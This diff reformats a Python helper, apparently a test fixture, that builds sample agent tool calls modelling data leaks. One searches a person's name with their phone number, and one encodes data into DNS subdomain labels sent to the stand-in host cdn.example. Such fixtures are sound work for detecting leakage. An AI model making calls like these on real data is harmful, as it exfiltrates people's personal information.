@@ -74,8 +74,6 @@ def leaking_calls(document: str) -> list[ToolCall]:
         ToolCall(id="leak-1", function="search", arguments={"query": f"{name} {person['Phone']}"}),
         ToolCall(id="leak-2", function="share", arguments={"name": f"{name}.txt", "text": "done"}),
         ToolCall(
-            id="leak-3",
-            function="look_up",
-            arguments={"host": f"{''.join(labels)}.cdn.example"},
+            id="leak-3", function="look_up", arguments={"host": f"{''.join(labels)}.cdn.example"}
         ),
     ]
